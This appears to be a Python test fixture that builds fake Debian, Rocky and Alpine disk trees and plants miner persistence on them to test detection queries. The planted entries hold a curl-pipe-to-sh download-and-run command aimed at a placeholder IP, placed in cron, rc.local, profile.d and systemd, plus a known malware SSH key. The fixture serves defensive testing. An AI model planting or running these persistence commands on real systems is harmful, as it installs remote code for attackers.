"""Trees that look like the disks of stock machines, and what a miner leaves on them; made to be examined with --root."""

from __future__ import annotations

import os
import time
from collections.abc import Mapping
from pathlib import Path

from tests.lab.programs import elf

_PASSWD = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
_SHADOW = "root:*:20000:0:99999:7:::\ndaemon:*:20000:0:99999:7:::\n"
_UNIT = "[Unit]\nDescription={}\n[Service]\nExecStart={}\n[Install]\nWantedBy=multi-user.target\n"
DOWNLOAD = "curl -fsSL http://203.0.113.9/i.sh | sh"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIP6fxW3DLIhvRmPBxBtLUYqZVDHtEuF8Rag3Vq2wXf4r"

# path: content; what is in none of a distribution's packages is the administrator's.
_COMMON = {
    "/etc/passwd": _PASSWD,
    "/etc/shadow": _SHADOW,
    "/etc/group": "root:x:0:\ndaemon:x:1:\n",
    "/usr/bin/true": "#!/bin/sh\nexit 0\n",
    "/usr/sbin/sshd": "",
    "/etc/ssh/sshd_config": "PasswordAuthentication no\nPermitRootLogin no\n",
    "/root/.ssh/authorized_keys": f"{KEY} ops@example.org\n",
}
DEBIAN = {
    **_COMMON,
    "/etc/os-release": 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\n',
    "/etc/hostname": "image-of-debian\n",
    "/etc/crontab": "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    "/etc/cron.d/php": "09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean\n",
    "/usr/lib/systemd/system/ssh.service": _UNIT.format("OpenBSD Secure Shell server", "/usr/sbin/sshd -D"),
    "/var/lib/dpkg/status": "Package: openssh-server\nStatus: install ok installed\nVersion: 1:9.2\nArchitecture: amd64\n",
    "/var/lib/dpkg/info/openssh-server.list": "/usr/sbin/sshd\n/usr/lib/systemd/system/ssh.service\n/usr/bin/true\n",
    "/var/lib/dpkg/info/cron.list": "/etc/crontab\n/etc/cron.d/php\n",
    "/var/log/auth.log": "Nov 20 10:00:01 h sshd[7]: Accepted publickey for root from 192.0.2.4 port 4 ssh2: ED25519 SHA256:x\n",
}
EL = {
    **_COMMON,
    "/etc/os-release": 'PRETTY_NAME="Rocky Linux 9.4 (Blue Onyx)"\nID=rocky\n',
    "/etc/crontab": "SHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\n",
    "/etc/anacrontab": "RANDOM_DELAY=45\n1 5 cron.daily nice run-parts /etc/cron.daily\n",
    "/etc/rc.d/rc.local": "#!/bin/bash\ntouch /var/lock/subsys/local\n",
    "/usr/lib/systemd/system/sshd.service": _UNIT.format("OpenSSH server daemon", "/usr/sbin/sshd -D $OPTIONS"),
    "/var/log/secure": "Nov 20 10:00:01 h sshd[7]: Accepted publickey for root from 192.0.2.4 port 4 ssh2: ED25519 SHA256:x\n",
}
ALPINE = {
    **_COMMON,
    "/etc/os-release": 'PRETTY_NAME="Alpine Linux v3.20"\nID=alpine\n',
    "/etc/crontabs/root": "*/15 * * * * run-parts /etc/periodic/15min\n0 2 * * * run-parts /etc/periodic/daily\n",
    "/lib/apk/db/installed": "P:openssh-server\nV:9.7\nF:usr/sbin\nR:sshd\n",
}
IMAGES: Mapping[str, Mapping[str, str]] = {"debian": DEBIAN, "el": EL, "alpine": ALPINE}

# What was planted: path, content, and the pack query whose row must name the path.
MINERS: Mapping[str, list[tuple[str, str, str]]] = {
    "debian": [
        ("/etc/cron.d/.sync", f"* * * * * root {DOWNLOAD}\n", "cron_download_and_run"),
        ("/etc/systemd/system/update.service", _UNIT.format("u", "/tmp/.X11-unix/kworker -B"), "systemd_unit_odd_program"),
        ("/etc/rc.local", f"#!/bin/sh\n{DOWNLOAD}\nexit 0\n", "rc_local_suspicious_command"),
        ("/etc/profile.d/zz.sh", f"{DOWNLOAD}\n", "startup_suspicious_command"),
        ("/root/.ssh/authorized_keys", f"{KEY} mdrfckr\n", "known_malware_key"),
    ],
    "el": [
        ("/var/spool/cron/root", f"@reboot {DOWNLOAD}\n", "cron_download_and_run"),
        ("/etc/rc.d/rc.local", f"#!/bin/bash\n{DOWNLOAD}\n", "rc_local_suspicious_command"),
    ],
    "alpine": [
        ("/etc/crontabs/root", f"*/15 * * * * {DOWNLOAD}\n", "cron_download_and_run"),
        ("/etc/local.d/net.start", f"#!/bin/sh\n{DOWNLOAD}\n", "rc_local_suspicious_command"),
    ],
}
_EXECUTABLE = ("/etc/rc.local", "/etc/rc.d/rc.local", "/etc/local.d/net.start", "/usr/bin/true")
_PRIVATE = ("/etc/shadow", "/var/spool/cron/root", "/etc/crontabs/root", "/root/.ssh/authorized_keys")
_YEAR = 365 * 86400


def make_image(root: Path, name: str) -> Path:
    """Make the stock disk `name` below `root`; return `root`."""
    for path, content in IMAGES[name].items():
        plant(root, path, content)
    for folder in ("tmp", "var/tmp", "dev/shm", "proc", "sys", "boot", "usr/lib", "root/.ssh"):
        (root / folder).mkdir(parents=True, exist_ok=True)
    (root / "root/.ssh").chmod(0o700)
    for folder in ("bin", "sbin", "lib"):
        if not (root / folder).exists():
            (root / folder).symlink_to(f"usr/{folder}")
    return root


def plant(root: Path, path: str, content: str) -> None:
    """Write one file of a disk, with the mode that such a file has; an old one, so that nothing is fresh by its mtime."""
    file = root / path.lstrip("/")
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(elf() if path == "/usr/sbin/sshd" else content.encode())
    file.chmod(0o755 if path in _EXECUTABLE or "/bin/" in path or "/sbin/" in path else 0o600 if path in _PRIVATE else 0o644)
    old = time.time() - _YEAR
    os.utime(file, (old, old))
